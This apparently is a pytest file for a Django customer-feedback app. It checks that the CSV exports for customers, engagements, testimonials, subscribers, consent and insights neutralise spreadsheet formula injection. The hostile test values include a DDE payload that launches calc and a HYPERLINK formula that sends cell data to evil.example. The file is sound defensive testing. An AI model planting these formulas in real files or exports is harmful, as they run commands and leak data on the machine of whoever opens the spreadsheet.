"""Every CSV export neutralises formulas the same way (followthrough.csvsafe)."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from followthrough import csvsafe
from followthrough import vocabulary as v
from followthrough.customers.models import ConsentEvent, Customer
from followthrough.feedback import services as feedback_services
from followthrough.feedback.models import Quote, SurveyResponse
from followthrough.playbooks.library import install_builtin_playbooks
from followthrough.playbooks.models import Playbook
from followthrough.touchpoints import services as touchpoint_services

HOSTILE = ["=1+1", "+44 20", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: they start with a formula character."""
    return [c for row in rows for c in row if c.startswith(csvsafe.FORMULA_STARTS)]


def test_it_quotes_every_formula_start():
    assert [csvsafe.cell(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]


def test_it_leaves_empty_cells_empty():
    assert csvsafe.row(["", None, "ok"]) == ["", "", "ok"]


def test_it_writes_real_numbers_as_numbers_but_quotes_text_that_looks_like_one():
    assert csvsafe.row([Decimal("-12.50"), -3, 0.5, "-12.50"]) == [
        Decimal("-12.50"), -3, 0.5, "'-12.50"]


@pytest.fixture
def hostile(business):
    """A customer whose every text field is a formula, with a sale, a touch, an approved
    testimonial and a marketing consent."""
    playbook = install_builtin_playbooks(business)[0]
    customer = Customer.objects.create(business=business, name=EVIL, email="a@example.com",
                                       phone="", postal_address="\r=1", tags="@SUM(A1)",
                                       notes="\t=1", external_id="-2+3")
    engagement = touchpoint_services.create_engagement(business, customer, playbook,
                                                       won_at=timezone.now(),
                                                       description="+44 20")
    answer = feedback_services.submit_response(
        engagement.touchpoints.first(), {"csat": 2, "went_well": "\t=1+1", "improve": "@x"})
    SurveyResponse.objects.filter(pk=answer.pk).update(
        quote_as=Quote.FULL, testimonial_status=SurveyResponse.APPROVED)
    ConsentEvent.objects.create(business=business, customer=customer, channel="email",
                                purpose=v.MARKETING, granted=True, source="form",
                                note="=1+1", at=timezone.now())
    return customer


@pytest.mark.parametrize("kind", ["customers", "engagements", "touchpoints", "feedback",
                                  "consent"])
def test_it_neutralises_the_integrations_export(owner_client, hostile, kind):
    rows = cells(owner_client.get(reverse("export", args=[kind])))

    assert len(rows) > 1
    assert formulas(rows) == []


def test_it_keeps_empty_cells_empty_in_an_export(owner_client, hostile):
    rows = cells(owner_client.get(reverse("export", args=["customers"])))

    assert "'" not in rows[1] and "" in rows[1]


def test_it_neutralises_the_testimonials_export(owner_client, hostile):
    rows = cells(owner_client.get(reverse("testimonial_export_csv")))

    assert rows[1][:3] == ["'=1+1", "'" + EVIL, ""]  # no score: the cell stays empty
    assert formulas(rows) == []


def test_it_neutralises_the_subscribers_export(owner_client, hostile):
    rows = cells(owner_client.get(reverse("subscriber_export_csv")))

    assert rows[1] == ["'" + EVIL, "a@example.com"]


def test_it_neutralises_the_insights_export(owner_client, business, hostile):
    book = Playbook.objects.filter(business=business).first()
    Playbook.objects.filter(pk=book.pk).update(name="=1+1")

    rows = cells(owner_client.get(reverse("insights_export", args=["playbook-gaps"])))

    assert ["'=1+1"] == [row[0] for row in rows if row[0].endswith("=1+1")]
    assert formulas(rows) == []
